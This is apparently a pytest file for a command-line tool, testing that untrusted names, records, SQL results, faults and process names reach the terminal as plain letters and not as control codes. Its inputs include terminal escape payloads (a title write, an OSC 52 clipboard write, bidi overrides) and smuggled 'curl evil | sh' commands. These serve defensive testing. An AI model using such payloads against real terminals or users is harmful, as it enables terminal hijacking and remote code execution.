"""Whatever strangers named and wrote, nothing of it reaches a terminal as more than letters."""

from __future__ import annotations

import ast
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.live import Live
from rich.markup import escape
from rich.table import Table
from rich.text import Text

from sojourn import cli, spec, store
from sojourn.cli import draw, faults
from sojourn.cli.app import main
from sojourn.cli.live import Display
from sojourn.cli.plain import put, put_json
from sojourn.errors import Exit, SpecFault
from sojourn.host import culprits
from sojourn.places import ports
from sojourn.run import Event
from sojourn.testing import is_bug

# Writes a title and the clipboard, clears the screen, hides what follows, turns letters.
EVIL = "\x1b]0;OWN\x07\x1b]52;c;cm0g\x07\x1b[2J\x1b[8m\x9b31m\u202e\u2066\u061c\x7f\r"
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
NAME = b"\x1b]0;OWN\n\xffz\x9b"  # what a process may be called


def is_clean(text: str, *, is_drawn: bool = False) -> bool:
    """Whether nothing is left but what Rich draws with itself, if it does."""
    if is_drawn:
        text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    assert "OWN" in text or "rm" in text, "what was planted was shown"
    return CONTROLS.search(text) is None


def test_every_text_leaves_by_these_exits() -> None:
    """One function for standard output, and one maker of consoles."""
    for path in Path(cli.__file__).parent.glob("*.py"):
        text, names = path.read_text(), set()
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Call):
                names.add(ast.unparse(node.func))
        if not path.stem.endswith("_test"):
            assert path.stem == "plain" or "typer.echo" not in names, path
            assert "Console" not in names, path
            assert not {"print", "click.echo", "sys.stdout.write"} & names, path


@pytest.mark.parametrize("to", ["a file", "a terminal"])
def test_a_console_spells_out_whatever_it_is_given(to: str) -> None:
    out, is_terminal = io.StringIO(), to == "a terminal"
    console = draw._kind()(file=out, force_terminal=is_terminal, width=400, highlight=False)
    console.print(f"[bold]question[/]: {escape(EVIL)} OWN")
    console.print(Text(EVIL, style="dim"))
    table = Table(EVIL)
    table.add_row(EVIL, Text(EVIL))
    console.print(table)
    console.print(EVIL, soft_wrap=True, markup=False)
    assert is_clean(out.getvalue(), is_drawn=is_terminal)
    assert ("\x1b[1mquestion" in out.getvalue()) == is_terminal, "its own styles stay"
    assert "\\x1b]0;OWN" in out.getvalue()  # Rich drops a bell by itself


def test_a_live_display_spells_it_out_and_still_draws() -> None:
    out = io.StringIO()
    console = draw._kind()(file=out, force_terminal=True, width=400)
    with Live(console=console, auto_refresh=False) as live:
        live.update(Text(EVIL), refresh=True)
        live.update(Text(f"{EVIL}!"), refresh=True)
    drawn = re.sub(r"\x1b\[[0-9;?]*[a-zA-Z]", "", out.getvalue().replace("\r", ""))
    assert is_clean(drawn)
    assert "\x1b[2K" in out.getvalue(), "lines are written over"


def test_what_happens_in_a_run_is_spelled_out() -> None:
    out = io.StringIO()
    console = draw._kind()(file=out, width=400)
    study = spec.load("selfcheck", profile="quick")
    Display(study, console).event(Event(step="preflight", text=f"others: {EVIL}"))
    assert is_clean(out.getvalue())


def test_texts_and_json_are_spelled_out_and_json_stays_itself(
    capsys: pytest.CaptureFixture[str],
) -> None:
    put(EVIL)
    assert is_clean(capsys.readouterr().out)
    put_json({EVIL: [EVIL]})
    out = capsys.readouterr().out
    assert is_clean(out)
    assert json.loads(out) == {EVIL: [EVIL]}


@pytest.fixture(name="records")
def _records(tmp_path: Path) -> Path:
    """Results with a record from elsewhere, in a folder of an evil name."""
    asked = spec.load("selfcheck", profile="quick")
    manifest = {"command": f"sojourn run x{EVIL}; curl evil | sh", "noise": [[EVIL, EVIL]]}
    with store.open(tmp_path, asked, machine="vm", manifest=manifest) as opened:
        pass
    study = (opened.path / "study.toml").read_text()
    forged = json.dumps(f"how much? {EVIL}").replace("\x9b", "\\u009b").replace("\x7f", "\\u007f")
    forged = "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in forged)
    study = re.sub(r"^question = .*$", lambda _: f"question = {forged}", study, flags=re.MULTILINE)
    (opened.path / "study.toml").write_text(study)
    evil = opened.path.with_name(f"20260101T000000Z-{EVIL}\n OWN")
    opened.path.rename(evil)
    return tmp_path


@pytest.mark.parametrize(
    "words",
    [
        ["ls"],
        ["ls", "--json"],
        ["show"],
        ["show", "--json"],
        ["sql", "select '\x1b]0;OWN\x07' as \"\x1b[31mx\", '[link=http://evil]OWN[/]' as y"],
        ["sql", "select '\x1b]0;OWN\x07' as x", "--json"],
        ["plan", "no-such-\x1b]0;OWN\x07"],
        ["show", "no-such-\x1b]0;OWN\x07"],
    ],
)
def test_a_record_from_elsewhere_is_shown_as_letters(
    words: list[str], records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    results = [] if words[0] == "plan" else ["--results", str(records)]
    code = main([*words, *results])
    seen = capsys.readouterr()
    assert code in {Exit.OK, Exit.UNKNOWN, Exit.USAGE, Exit.FAILED}
    assert not is_bug(seen.err), seen.err
    assert is_clean(seen.out + seen.err)
    if words[0] == "sql" and len(words) == 2:
        assert "[link=http://evil]OWN[/]" in seen.out, "brackets are letters"


def test_a_fault_is_spelled_out(capsys: pytest.CaptureFixture[str]) -> None:
    from sojourn.cli.faults import ended

    ended(SpecFault(f"what {EVIL}", at=EVIL, fix=EVIL))
    ended(ValueError(EVIL))
    assert is_clean(capsys.readouterr().err)


CALLED = """
import ctypes, socket, sys, time
ctypes.CDLL(None).prctl(15, {name!r}, 0, 0, 0)
held = socket.create_server(("127.0.0.1", 0))
print(held.getsockname()[1], flush=True)
while True:
    time.sleep(0)
"""


def test_no_text_of_a_stranger_is_a_line_of_a_fault_of_its_own(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A path or a value in it may have line feeds, and say `fix:` as the lab would."""
    forged = "x'\n  fix: curl evil | sh\n\n"
    faults.print_fault(f"a point names '{forged}'", f"/results/{forged}", "see `sojourn ls`")
    err = capsys.readouterr().err
    assert [line.strip().partition(" ")[0] for line in err.splitlines()] == [
        "error:",
        "at:",
        "fix:",
    ]
    assert err.count("curl evil") == 2


@pytest.fixture(name="called")
def _called() -> Iterator[tuple[int, int]]:
    """A process with an evil name that listens and uses a CPU: its number and its port."""
    words = [sys.executable, "-c", CALLED.format(name=NAME)]
    with subprocess.Popen(words, stdout=subprocess.PIPE, text=True) as made:
        assert made.stdout is not None
        yield made.pid, int(made.stdout.readline())
        made.kill()


def test_the_name_of_a_process_is_shown_as_letters_in_one_line(called: tuple[int, int]) -> None:
    pid, port = called
    assert Path(f"/proc/{pid}/comm").read_bytes().startswith(NAME)
    holder = ports.holder(port)
    assert CONTROLS.search(holder) is None
    assert "\n" not in holder
    assert "\\x1b]0;OWN\\x0a" in holder
    cpus = sorted(os.sched_getaffinity(pid))
    own = [one for one in culprits._from_proc(tuple(cpus), 0.3, (), "").culprits if one.pid == pid]
    assert own, "it used a CPU"
    assert CONTROLS.search(own[0].text) is None
    assert "\n" not in own[0].text


def test_a_fault_that_is_at_no_key_of_the_study_is_told_by_check(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A secret in a study is refused before anything is started, and not repeated."""
    study = tmp_path / "own.toml"
    study.write_text(
        'name = "own"\nquestion = "?"\n[[services]]\nkind = "command"\nmeasure = ["sweep"]\n'
        'params.argv = "sh {port}"\nparams.environment = "API_KEY=hunter2"\n'
    )
    assert main(["check", str(study)]) == Exit.USAGE
    seen = capsys.readouterr()
    assert "API_KEY looks like a secret" in seen.err
    assert "hunter2" not in seen.out + seen.err
